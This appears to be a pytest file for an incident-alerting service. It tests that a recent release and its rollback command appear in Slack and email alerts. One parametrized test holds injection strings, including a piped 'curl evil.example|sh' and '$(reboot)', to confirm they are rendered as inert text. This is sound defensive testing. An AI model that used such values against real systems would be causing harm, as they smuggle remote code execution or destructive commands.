"""From a release to the alert that names it, with the command that takes it back; and from an alert to a late word."""

import json
from datetime import timedelta

import pytest

from infra.local import samples
from shared import bootstrap
from shared.usecases.records import timeline_of

COMMAND = "firebase hosting:clone souk-el-sayarat:@4.2.0 souk-el-sayarat:live"


def released(driver, version="4.2.1", *, ago=0, service="web", **more):
    at = driver.clock.now() - timedelta(minutes=ago)
    body = {"release": {"service": service, "version": version, "at": at.isoformat(), **more}}
    answer = driver.post("receive_measurement", json.dumps(body), {"content-type": "application/json"})
    assert answer.status_code == 202, answer.text
    driver.platform.drain()


def outage(driver):
    driver.send(samples.uptime_incident(driver.clock.now(), name="0.down"))
    return driver.incidents[-1]


def shown(driver, incident):
    (post,) = [
        m for m in driver.messages("slack") if incident.id in json.dumps(m["content"]["blocks"]) and not m["thread"]
    ][:1]
    return json.dumps(post["content"]["blocks"], ensure_ascii=False)


def test_a_release_twelve_minutes_before_stands_in_the_first_message_with_its_command(shipped):
    released(shipped, "4.2.0", ago=600)
    released(shipped, by="Mona Adel")
    shipped.after(minutes=12)
    incident = outage(shipped)
    shipped.after(minutes=1)
    text = shown(shipped, incident)
    assert "12 min after release 4.2.1 of web by Mona Adel" in text
    assert f"Take it back: {COMMAND}" in text
    lines = [line.detail for line in timeline_of(bootstrap.state(), incident.id) if line.event == "may be explained by"]
    assert lines[0].startswith("release 4.2.1 of web by Mona Adel")
    mails = [m["content"] for m in shipped.messages("smtp") if incident.id in m["content"]["html"]]
    assert any(COMMAND in mail["text"] and "12 min after" in mail["html"] for mail in mails)


@pytest.mark.parametrize("version", ["4.2.0; curl evil.example|sh", "$(reboot)", "--help", "<!channel>"])
def test_a_hostile_name_is_shown_as_text_and_never_stands_in_a_command(shipped, version):
    released(shipped, "4.2.1", previous=version, by="<!here>")
    incident = outage(shipped)
    shipped.after(minutes=1)
    text = shown(shipped, incident)
    assert "release 4.2.1 of web" in text
    assert "Take it back" not in text
    blocks = json.loads(text)
    named = [b for b in blocks if "4.2.1" in json.dumps(b)]
    assert {b["text"]["type"] for b in named} == {"plain_text"}


def test_a_release_of_half_a_day_ago_is_no_suspect(shipped):
    released(shipped, ago=720)
    incident = outage(shipped)
    assert incident.suspects == ()


def test_a_deployment_told_after_the_alert_is_put_on_the_open_incident_and_into_its_message(shipped):
    incident = outage(shipped)
    shipped.after(minutes=1)
    assert "deployment" not in shown(shipped, incident)
    event = samples.audit(
        incident.started_at - timedelta(minutes=3),
        "run.googleapis.com",
        "google.cloud.run.v1.Services.ReplaceService",
        "namespaces/souk/services/orders-api",
        response={"status": {"latestCreatedRevisionName": "orders-api-00043-abc"}},
    )
    shipped.send(event)
    shipped.send(event)
    assert "deployment orders-api-00043-abc of orders-api" in shown(shipped, incident)
    lines = [line for line in timeline_of(bootstrap.state(), incident.id) if line.event == "may be explained by"]
    assert len(lines) == 1
